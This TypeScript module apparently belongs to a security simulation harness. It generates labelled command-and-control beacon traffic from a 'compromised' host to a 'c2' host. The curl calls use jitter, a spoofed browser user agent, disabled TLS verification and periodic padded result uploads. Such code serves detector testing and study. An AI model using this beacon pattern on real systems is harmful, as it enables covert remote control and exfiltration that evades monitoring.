/** A compromised host that calls its controller, with jitter, over ordinary-looking HTTP. */

import type { Deed } from '../deed.ts'
import type { HostName } from '../plan.ts'
import { between, type World } from '../world.ts'

export interface BeaconOptions {
  readonly from?: HostName
  readonly calls: number
  readonly everySeconds: number
  /** Share of the period by which a call comes early or late. */
  readonly jitter?: number
  readonly port?: number
  readonly tls?: boolean
  /** One call in this many brings a task and carries a result back. */
  readonly taskEvery?: number
  readonly also?: Deed['behaviour']
  /** How long a call waits for its answer. */
  readonly waitSeconds?: number
}

const agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'

/** Yields how many calls were answered. */
export async function beacon(world: World, options: BeaconOptions): Promise<number> {
  const { from = 'client', calls, port = 8080, tls = false, taskEvery = 15 } = options
  const wait = String(options.waitSeconds ?? 8)
  let answered = 0
  const random = world.random(`beacon ${from}`)
  const { address } = world.host('c2')
  const base = `${tls ? 'https' : 'http'}://${address}:${port}`
  const client = world.host(from).address
  const deed = { protocol: 'tcp', client, server: address, serverPorts: [port] } as const
  const kinds = ['beacon', ...(options.also === undefined ? [] : [options.also])] as const
  await world.malicious(
    kinds.map((behaviour) => ({ behaviour, ...deed })),
    async () => {
      for (let call = 0; call < calls; call++) {
        const isTask = taskEvery > 0 && call % taskEvery === taskEvery - 1
        const body = isTask ? ['-d', `r=${'A'.repeat(200 + random.below(1800))}`] : []
        const url = `${base}/api/v2/check?id=7f3a91`
        const line = ['curl', '-s', '-k', '-m', wait, '-A', agent, ...body, '-o', '/dev/null', url]
        const { status } = await world.host(from).attempt(line)
        if (status === 0) answered++
        await world.pause(nextCallMs(options, between(random, -1, 1)))
      }
    },
  )
  return answered
}

function nextCallMs({ everySeconds, jitter = 0.2 }: BeaconOptions, chance: number): number {
  return everySeconds * 1000 * (1 + jitter * chance)
}
